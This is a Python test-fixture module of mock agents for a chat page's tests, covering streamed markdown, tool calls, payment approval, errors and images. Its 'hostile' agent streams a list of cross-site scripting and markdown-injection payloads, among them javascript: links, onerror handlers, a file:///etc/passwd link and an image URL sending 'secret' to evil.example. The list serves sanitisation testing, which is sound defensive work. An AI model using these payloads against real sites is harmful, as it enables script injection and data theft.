"""Agents that the page's tests talk to. `running` names those that still run."""

from __future__ import annotations

import json
import struct
import zlib
from collections.abc import AsyncIterator
from typing import Any

import anyio

from openai_compat import (
    AgentError,
    AgentRequest,
    MediaDelta,
    Paused,
    PendingCall,
    ReasoningDelta,
    ToolCallReady,
    ToolResult,
    UsageReported,
)

running: set[str] = set()

TEXT = """## Oslo, tomorrow

It will be **12 °C with rain** until noon. Pack:

1. a rain jacket
2. shoes
   - or boots

| hour | °C |
|---|---:|
| 06 | 9 |
| 12 | 12 |

```python
print("rain")  # <b>
```
"""

HOSTILE = r"""<script>document.title = 'owned'</script>
<img src=x onerror="document.title='owned'">
<svg onload="document.title='owned'"><circle/></svg>
<iframe src="javascript:document.title='owned'"></iframe>
<a href="javascript:document.title='owned'">a</a>
[link](javascript:document.title='owned')
[link](JaVaScRiPt:document.title='owned')
[link]( javascript:document.title='owned')
[link](java
script:document.title='owned')
[link](data:text/html,<script>document.title='owned'</script>)
[link](vbscript:msgbox(1))
[link](file:///etc/passwd)
[link](//evil.example/x)
[link](https://ok.example/"onmouseover="document.title='owned')
![p](https://evil.example/p.png?q=secret)
![p](javascript:document.title='owned')
![p](data:image/svg+xml,<svg onload=alert(1)>)
<https://ok.example/<script>>
<javascript:document.title='owned'>
**<b onclick=alert(1)>** `<i onclick=alert(1)>` ~~<u onclick=alert(1)>~~
[a](https://a.example "x" onclick="document.title='owned'")
[[a](https://a.example)](javascript:document.title='owned')
[a]: javascript:document.title='owned'
&lt;script&gt; &#60;script&#62; \<script\>
<style>body { display: none }</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;https://evil.example/">
<form action="https://evil.example/"><input name=q></form><template><script></script></template>
| <img src=x onerror=alert(1)> | [x](javascript:1) |
|---|---|
| <script>1</script> | ![x](https://evil.example/y.png) |

> - <object data="https://evil.example/"></object>

```<script>document.title='owned'</script>
</code></pre><script>document.title='owned'</script>
```
"""


async def researcher(request: AgentRequest) -> AsyncIterator[Any]:
    """Looks things up."""
    yield ReasoningDelta("I have to look it up.")
    yield ToolCallReady("call_1", "look_up", json.dumps({"city": "Oslo", "when": "tomorrow"}), executor="agent")
    yield ToolResult("call_1", json.dumps({"sky": "rain"}))
    yield ToolCallReady("call_2", "read_page", json.dumps({"url": "https://weather.example"}), executor="agent")
    yield ToolResult("call_2", "timed out", is_error=True)
    for at in range(0, len(TEXT), 7):
        yield TEXT[at : at + 7]
    yield UsageReported(input_tokens=431, output_tokens=212, reasoning_tokens=57)


async def parrot(request: AgentRequest) -> AsyncIterator[Any]:
    yield "heard: " + " / ".join([message.text for message in request.messages if hasattr(message, "parts")])


async def payer(request: AgentRequest) -> AsyncIterator[Any]:
    decisions = request.resume.decisions if request.resume else {}
    if "call_p" not in decisions:
        yield Paused((PendingCall("call_p", "pay", '{"euros": 5, "note": "<b>lunch</b>"}', "approval"),))
        return
    decision = decisions["call_p"]
    if decision.approved:
        yield ToolResult("call_p", "paid")
    yield f"approved {decision.approved}, always {decision.always}, {decision.arguments}, {decision.reason}"


async def clerk(request: AgentRequest) -> AsyncIterator[Any]:
    if request.resume is None:
        yield ToolCallReady("call_c", "get_location", "{}", executor="client")
    else:
        yield f"You are in {request.resume.results['call_c'].text}."


async def slow(prompt: str) -> AsyncIterator[Any]:
    running.add("slow")
    try:
        yield "Once upon a time"
        await anyio.sleep_forever()
    finally:
        running.discard("slow")


async def broken(prompt: str) -> AsyncIterator[Any]:
    yield "I begin, "
    raise AgentError("The booking system is down.")


async def hidden(prompt: str) -> str:
    raise RuntimeError("password=hunter2")


async def hostile(prompt: str) -> AsyncIterator[Any]:
    for line in HOSTILE.splitlines(keepends=True):
        yield line


PART = TEXT + "\nWords and *more* words, and `code`. " * 20 + "\n\n"
PARTS = 200_000 // len(PART)


async def flood(prompt: str) -> AsyncIterator[Any]:
    text = PART * PARTS
    for at in range(0, len(text), 500):
        yield text[at : at + 500]


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    body = zlib.compress((b"\0" + b"\x40\x80\xff" * 2) * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


async def painter(request: AgentRequest) -> AsyncIterator[Any]:
    yield f"Seen: {[part.kind if hasattr(part, 'kind') else type(part).__name__ for part in request.messages[-1].parts]}"
    yield MediaDelta(png(), "image/png")


AGENTS: dict[str, Any] = {
    "researcher": researcher,
    "parrot": parrot,
    "payer": payer,
    "clerk": clerk,
    "slow": slow,
    "broken": broken,
    "hidden": hidden,
    "hostile": hostile,
    "flood": flood,
    "painter": painter,
}
